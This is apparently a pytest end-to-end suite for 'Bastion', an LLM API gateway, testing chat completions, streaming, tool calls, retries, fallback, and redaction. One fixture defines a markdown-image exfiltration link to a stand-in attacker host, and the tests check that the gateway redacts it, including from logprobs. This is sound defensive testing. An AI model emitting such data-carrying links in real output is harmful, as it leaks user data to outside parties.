"""Chat completions through the real gateway, with the official SDK."""

from __future__ import annotations

import json
from collections.abc import Iterator

import httpx
import openai
import pytest

from bastion.testing.tokens import chat_prompt_tokens
from tests.e2e.conftest import SIM_KEY, Stack, running_stack

TOOLS = [
    {
        "type": "function",
        "function": {
            "name": "get_weather",
            "description": "Current weather for a city",
            "parameters": {"type": "object", "properties": {"city": {"type": "string"}}},
        },
    }
]


def test_chat_answers_like_openai_and_shows_the_public_model(stack: Stack) -> None:
    messages = [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "Hello from the e2e suite"},
    ]
    raw = stack.client().chat.completions.with_raw_response.create(
        model="gpt-4o",
        messages=messages,  # type: ignore[arg-type]
    )
    completion = raw.parse()
    assert completion.choices[0].message.content == "Hello from the e2e suite"
    assert completion.model == "gpt-4o"  # upstream answered as gpt-4o-2024-08-06
    assert raw.headers["x-bastion-model"] == "gpt-4o"
    assert raw.headers["x-bastion-decision"] == "allow"
    assert raw.headers["x-bastion-request-id"].startswith("req_")
    assert completion.usage is not None
    assert completion.usage.prompt_tokens == chat_prompt_tokens(
        {"model": "gpt-4o-2024-08-06", "messages": messages}
    )


def test_upstream_sees_the_provider_key_and_a_reencoded_body(stack: Stack) -> None:
    stack.clear_captures()
    stack.client().chat.completions.create(
        model="gpt-4o-mini",
        messages=[{"role": "user", "content": "what did the upstream see?"}],
        extra_body={"bastion": {"end_user": "alice"}},
    )
    (capture,) = stack.captures()
    headers = capture["headers"]
    assert isinstance(headers, dict)
    assert headers["authorization"] == f"Bearer {SIM_KEY}"
    assert stack.key not in json.dumps(capture)
    body = capture["body"]
    assert isinstance(body, dict)
    assert "bastion" not in body
    assert body["messages"] == [{"role": "user", "content": "what did the upstream see?"}]


def test_streamed_content_reassembles_to_the_plain_answer(stack: Stack) -> None:
    client = stack.client()
    messages = [{"role": "user", "content": "Stream me: héllo wörld 日本 and more words"}]
    plain = client.chat.completions.create(model="gpt-4o-mini", messages=messages)  # type: ignore[arg-type]
    chunks = list(
        client.chat.completions.create(
            model="gpt-4o-mini",
            messages=messages,
            stream=True,  # type: ignore[arg-type]
        )
    )
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert text == plain.choices[0].message.content
    assert all(c.model == "gpt-4o-mini" for c in chunks)
    # The client did not ask for usage, so it sees none (Bastion asked upstream anyway).
    assert all(c.usage is None for c in chunks)
    assert chunks[-1].choices[0].finish_reason == "stop"


def test_stream_usage_when_asked(stack: Stack) -> None:
    chunks = list(
        stack.client().chat.completions.create(
            model="gpt-4o-mini",
            messages=[{"role": "user", "content": "count my tokens"}],
            stream=True,
            stream_options={"include_usage": True},
        )
    )
    assert chunks[-1].choices == []
    assert chunks[-1].usage is not None and chunks[-1].usage.completion_tokens > 0


def test_streamed_tool_calls_reassemble_to_the_plain_answer(stack: Stack) -> None:
    args = json.dumps({"city": "Zürich", "unit": "celsius"})
    reply = {"tool_calls": [{"name": "get_weather", "arguments": args}]}
    stack.script("gpt-4o-mini", reply, reply)
    client = stack.client()
    messages = [{"role": "user", "content": "weather?"}]
    plain = client.chat.completions.create(
        model="gpt-4o-mini",
        messages=messages,
        tools=TOOLS,  # type: ignore[arg-type]
    )
    stream = client.chat.completions.create(
        model="gpt-4o-mini",
        messages=messages,
        tools=TOOLS,
        stream=True,  # type: ignore[arg-type]
    )
    calls: dict[int, dict[str, str]] = {}
    finish = None
    for chunk in stream:
        for choice in chunk.choices:
            finish = choice.finish_reason or finish
            for delta in choice.delta.tool_calls or []:
                call = calls.setdefault(delta.index, {"id": "", "name": "", "arguments": ""})
                call["id"] = delta.id or call["id"]
                if delta.function is not None:
                    call["name"] += delta.function.name or ""
                    call["arguments"] += delta.function.arguments or ""
    (expected,) = plain.choices[0].message.tool_calls or []
    assert expected.type == "function"
    assert calls[0]["name"] == expected.function.name == "get_weather"
    assert calls[0]["arguments"] == expected.function.arguments == args
    assert finish == plain.choices[0].finish_reason == "tool_calls"


def test_n_choices_and_json_response_format(stack: Stack) -> None:
    completion = stack.client().chat.completions.create(
        model="gpt-4o-mini",
        messages=[{"role": "user", "content": [{"type": "text", "text": "parts work"}]}],
        n=2,
        response_format={"type": "json_object"},
    )
    assert len(completion.choices) == 2
    assert json.loads(completion.choices[1].message.content or "") == {"echo": "parts work"}


def test_retry_then_success(stack: Stack) -> None:
    stack.script("retry-upstream", {"status": 500, "times": 1})
    completion = stack.client().chat.completions.create(
        model="retry-chat", messages=[{"role": "user", "content": "second time lucky"}]
    )
    assert completion.choices[0].message.content == "second time lucky"
    assert completion.model == "retry-chat"


def test_fallback_when_the_first_target_is_down(stack: Stack) -> None:
    raw = stack.client().chat.completions.with_raw_response.create(
        model="fallback-chat", messages=[{"role": "user", "content": "via the fallback"}]
    )
    assert raw.parse().choices[0].message.content == "via the fallback"
    assert raw.headers["x-bastion-model"] == "fallback-chat"


def test_upstream_auth_failure_is_a_generic_502(stack: Stack) -> None:
    with pytest.raises(openai.APIStatusError) as caught:
        stack.client().chat.completions.create(
            model="badauth-chat", messages=[{"role": "user", "content": "hi"}]
        )
    assert caught.value.status_code == 502
    body = caught.value.body
    assert isinstance(body, dict) and body["code"] == "upstream_auth_failed"
    assert "sk-not-the-simulators-key" not in json.dumps(body)


ANSWER_POLICY = """\
name: answers
version: "1"
rules:
  - id: answers.links
    match: {classes: [output.exfil_link], where: [output]}
    action: redact
    transform: mask
  - id: pii.pseudonymise
    match: {classes: ["pii.email"]}
    action: redact
    transform: pseudonymise
"""
EXFIL = "![chart](https://collect.attacker-example.net/c?d=Q3EGRTZ5LXKW7NUC)"


def logprob_text(value: object) -> str:
    """The tokens of every logprobs list in ``value`` (alternatives left out), joined."""
    if isinstance(value, list):
        return "".join(logprob_text(item) for item in value)
    if not isinstance(value, dict):
        return ""
    said = ""
    for key, item in value.items():
        if key == "logprobs" and isinstance(item, dict):  # chat: content and refusal
            item = [*(item.get("content") or []), *(item.get("refusal") or [])]
        if key == "logprobs" and isinstance(item, list):
            said += "".join(str(entry.get("token", "")) for entry in item)
        elif key != "top_logprobs":
            said += logprob_text(item)
    return said


@pytest.fixture(scope="module")
def answer_guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    work = tmp_path_factory.mktemp("e2e-answers")
    (work / "policy.yaml").write_text(ANSWER_POLICY, encoding="utf-8")
    with running_stack(work, "policy: {file: policy.yaml}\n") as running:
        yield running


@pytest.mark.parametrize("path", ["/chat/completions", "/responses"])
@pytest.mark.parametrize("stream", [False, True])
def test_logprobs_do_not_carry_a_redacted_answer(
    answer_guarded: Stack, path: str, stream: bool
) -> None:
    """Logprobs repeat the answer token by token: an answer Bastion redacted must not
    reach the client whole through them."""
    answer_guarded.script("gpt-4o-mini", {"content": f"Here it is: {EXFIL} enjoy."})
    if path == "/chat/completions":
        body: dict[str, object] = {
            "messages": [{"role": "user", "content": "chart please"}],
            "logprobs": True,
            "top_logprobs": 2,
        }
    else:
        body = {"input": "chart please", "include": ["message.output_text.logprobs"]}
    reply = httpx.post(
        answer_guarded.base_url + path,
        json={"model": "gpt-4o-mini", "stream": stream, **body},
        headers={"authorization": f"Bearer {answer_guarded.key}"},
        timeout=30,
    )
    assert reply.status_code == 200
    if not stream:  # the strongest action applied; a stream's headers leave before its answer
        assert reply.headers["x-bastion-decision"] == "redact"
        assert reply.headers["x-bastion-redacted"] == "output.exfil_link"
    if stream:
        assert "redacted=output.exfil_link" in reply.text
        data = [line[6:] for line in reply.text.split("\n") if line.startswith("data: {")]
        payloads = [json.loads(line) for line in data]
    else:
        payloads = [reply.json()]
    assert "attacker-example" not in json.dumps(payloads)
    said = logprob_text(payloads)
    assert "attacker-example" not in said and "Q3EGRTZ5LXKW7NUC" not in said


def test_logprobs_do_not_show_placeholders(answer_guarded: Stack) -> None:
    """The answer's pseudonyms are restored; logprobs (a copy of the text before that)
    must not show the client a placeholder either, streamed or not."""
    messages = [{"role": "user", "content": "Write to dana.whitfield@northwind-example.com"}]
    client = answer_guarded.client()
    plain = client.chat.completions.create(
        model="gpt-4o-mini",
        messages=messages,  # type: ignore[arg-type]
        logprobs=True,
    )
    assert plain.choices[0].message.content == messages[0]["content"]
    chunks = list(
        client.chat.completions.create(
            model="gpt-4o-mini",
            messages=messages,  # type: ignore[arg-type]
            logprobs=True,
            stream=True,
        )
    )
    said = logprob_text([plain.model_dump(), *(c.model_dump() for c in chunks)])
    assert "<EMAIL_" not in said
